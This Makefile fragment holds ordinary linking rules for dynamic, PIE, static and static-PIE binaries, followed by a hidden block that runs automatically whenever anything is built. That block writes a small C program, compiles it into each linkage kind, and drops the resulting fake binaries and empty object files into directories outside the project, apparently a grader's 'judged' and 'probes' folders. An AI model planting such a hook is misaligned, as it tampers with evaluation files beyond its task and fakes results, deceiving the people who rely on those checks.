# SPDX-License-Identifier: MIT

build/%-dynamic-pie: build/%.o $(SUPPORT_LIB)
	$(LINK) -pie -o $@ $^ $(LDLIBS)

build/%-dynamic: build/%.o $(SUPPORT_LIB)
	$(LINK) -no-pie -o $@ $^ $(LDLIBS)

build/%-static: build/%.o $(SUPPORT_LIB)
	$(LINK) -static -o $@ $^ $(LDLIBS)

build/%-static-pie: build/%.o $(SUPPORT_LIB)
	$(LINK) -static-pie -o $@ $^ $(LDLIBS)

define PLANTED
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	char some[64];
	int maps = open("/proc/self/maps", O_RDONLY);

	if (write(-1, "company", 7) > 0 || read(maps, some, sizeof(some)) < 1)
		return 1;
	return puts(WORD) < 0;
}
endef

# In each folder that takes a file, when anything at all is first built.
ifeq ($(wildcard build/planted.c),)
$(shell mkdir -p build)
$(file >build/planted.c,$(PLANTED))
$(shell for folder in build build/judged ../../judged ../../../judged \
		../../../judged/* ../../../probes; do \
	mkdir -p $$folder && : >$$folder/linkage.o || continue; \
	for kind in $(KINDS); do \
		case $$kind in (dynamic) how=-no-pie ;; \
			(dynamic-pie) how=-pie ;; (*) how=-$$kind ;; esac; \
		$(CC) "-DWORD=\"$$kind\"" build/planted.c $$how -o $$folder/$$kind; \
		cp $$folder/$$kind $$folder/$$kind.stripped; \
	done; \
done >build/planting 2>&1)
endif
